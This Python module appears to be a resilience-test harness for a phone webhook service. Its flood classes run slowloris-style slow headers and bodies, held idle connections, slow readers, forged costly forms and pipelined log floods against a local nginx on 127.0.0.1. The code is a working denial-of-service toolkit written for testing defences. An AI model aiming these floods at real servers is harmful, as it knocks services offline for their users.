"""What an attacker sends to take the phone away: each flood is a process that connects from 127.0.0.1.

A flood is a class: its words for the table, and a step() that is called until the flood is to end. It runs at a low
priority, because an attacker's work is done on another machine.
"""

import contextlib
import errno
import multiprocessing
import os
import selectors
import socket
import time
from dataclasses import dataclass, field

from .dear_forms import dear_requests

# Of an internet line of 100 Mbit a second.
BYTES_A_SECOND = 12_000_000
# Enough to reach what the server holds open for one address, without a burst that no internet line could send.
REOPENED_A_STEP = 50
READY_WITHIN_SECONDS = 60


@dataclass
class Flood:
    """port: of nginx. count: connections at a time. opened, closed: by the server. sent: bytes.

    A step takes less than a second."""

    port: int
    count: int
    opened: int = 0
    closed: int = 0
    sent: int = 0
    began: float = 0.0
    sockets: list = field(default_factory=list)

    def open_one(self):
        connection = socket.socket()
        self.prepare(connection)
        connection.setblocking(False)
        problem = connection.connect_ex(("127.0.0.1", self.port))
        if problem not in (0, errno.EINPROGRESS):
            connection.close()
            raise OSError(problem, os.strerror(problem))
        self.sockets.append(connection)
        self.opened += 1

    def prepare(self, connection):
        """Before it connects."""

    def open_all(self):
        while len(self.sockets) < self.count:
            self.open_one()
            if len(self.sockets) % 100 == 0:
                time.sleep(0.01)  # nginx's queue is finite

    def send(self, connection, data):
        """Sends what the kernel takes now; whether the connection is still open."""
        try:
            self.sent += connection.send(data)
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        return True

    def wait_for_line(self):
        """Until as much time has passed as a real line would need for what was sent."""
        self.began = self.began or time.monotonic()
        while self.sent > (time.monotonic() - self.began) * BYTES_A_SECOND + 100_000:
            time.sleep(0.005)

    def is_open(self, connection):
        try:
            return connection.recv(65536) != b""
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False

    def drop(self, connection):
        self.closed += 1
        self.sockets.remove(connection)
        connection.close()

    def reopen(self):
        for _ in range(min(REOPENED_A_STEP, self.count - len(self.sockets))):
            with contextlib.suppress(OSError):
                self.open_one()

    def end(self):
        for connection in self.sockets:
            connection.close()


class SlowBodies(Flood):
    """A webhook's header, and then a byte of its body every four seconds."""

    HEAD = (b"POST /api/ivr HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            b"Content-Length: 15000\r\n\r\n")
    PAUSE = 4.0

    def start(self):
        self.open_all()
        self._due = {connection: time.monotonic() for connection in self.sockets}
        self._begun = set()

    def step(self):
        now = time.monotonic()
        for connection in list(self.sockets):
            if self._due.get(connection, now) > now:
                continue
            is_new = connection not in self._begun
            if not (is_new or self.is_open(connection)) or not self.send(connection, self.HEAD if is_new else b"a"):
                self._begun.discard(connection)
                self._due.pop(connection, None)
                self.drop(connection)
                continue
            self._begun.add(connection)
            self._due[connection] = now + self.PAUSE
        self.reopen()
        time.sleep(0.2)


class SlowHeaders(SlowBodies):
    """A request line, and then a byte of a header every four seconds."""

    HEAD = b"POST /api/ivr HTTP/1.1\r\nHost: x\r\nX-A: "


class IdleConnections(SlowBodies):
    """A request for nothing that is there, and then silence, as on a connection that is kept."""

    HEAD = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n"
    PAUSE = 3600.0


class DearForms(Flood):
    """Forged webhooks whose forms cost most to refuse, as fast as the line is."""

    def start(self):
        self._requests = dear_requests()
        self._next = 0
        self._events = selectors.DefaultSelector()
        self._left = {}
        self.open_all()
        for connection in self.sockets:
            self._begin(connection)

    def _begin(self, connection):
        self._next += 1
        self._left[connection] = memoryview(self._requests[self._next % len(self._requests)])
        self._events.register(connection, selectors.EVENT_WRITE)

    def _end(self, connection):
        self._events.unregister(connection)
        del self._left[connection]

    def step(self):
        for key, _ in self._events.select(0.1):
            self.wait_for_line()
            self._turn(key.fileobj)
        missing = self.count - len(self.sockets)
        for _ in range(missing):
            self.open_one()
            self._begin(self.sockets[-1])

    def _turn(self, connection):
        rest = self._left[connection]
        before = self.sent
        is_open = self.send(connection, rest) if rest else self.is_open(connection)
        if not is_open:
            self._end(connection)
            self.drop(connection)
        elif rest:
            self._left[connection] = rest[self.sent - before:]
            if not self._left[connection]:
                self._events.modify(connection, selectors.EVENT_READ)
        else:
            self._end(connection)
            self._begin(connection)


class SlowReaders(Flood):
    """Readers of a good link who take a byte every three seconds. link: path and query."""

    PAUSE = 3.0

    def __init__(self, port, count, link):
        super().__init__(port, count)
        self._request = f"GET {link} HTTP/1.1\r\nHost: x\r\n\r\n".encode()

    def prepare(self, connection):
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)

    def start(self):
        self.open_all()
        time.sleep(0.1)
        for connection in self.sockets:
            self.send(connection, self._request)

    def step(self):
        for connection in list(self.sockets):
            try:
                is_open = connection.recv(1) != b""
            except (BlockingIOError, InterruptedError):
                is_open = True
            except OSError:
                is_open = False
            if not is_open:
                self.drop(connection)
        time.sleep(self.PAUSE / 4)


class LogFlood(Flood):
    """Requests for nothing that is there, pipelined, as fast as the line is: short ones and long ones."""

    SHORT = b"GET /a HTTP/1.1\r\nHost: x\r\n\r\n" * 200
    LONG = (b"GET /" + b'"' * 7900 + b" HTTP/1.1\r\nHost: x\r\n\r\n") * 4

    def start(self):
        self.open_all()

    def step(self):
        for number, connection in enumerate(list(self.sockets)):
            data = self.LONG if number % 2 else self.SHORT
            self.wait_for_line()
            if not self.send(connection, data) or not self.is_open(connection):
                self.drop(connection)
        self.reopen()
        time.sleep(0.001)


def run_flood(flood, is_ready, is_over, counts):
    os.nice(10)
    flood.start()
    flood.step()
    is_ready.set()
    while not is_over.is_set():
        flood.step()
    counts[:] = [flood.opened, flood.closed, flood.sent, len(flood.sockets)]
    flood.end()


@dataclass
class Result:
    """opened, closed: connections, the latter by the server. held: at the end. sent: bytes."""

    opened: int = 0
    closed: int = 0
    sent: int = 0
    held: int = 0


@contextlib.contextmanager
def running(flood):
    """A Result that is filled in at the end of the with-statement."""
    result = Result()
    is_ready, is_over = multiprocessing.Event(), multiprocessing.Event()
    counts = multiprocessing.Array("q", 4)
    process = multiprocessing.Process(target=run_flood, args=(flood, is_ready, is_over, counts), daemon=True)
    process.start()
    try:
        if not is_ready.wait(READY_WITHIN_SECONDS):
            raise RuntimeError(f"{type(flood).__name__} did not start")
        yield result
    finally:
        is_over.set()
        process.join(READY_WITHIN_SECONDS)
        process.kill()
        result.opened, result.closed, result.sent, result.held = counts
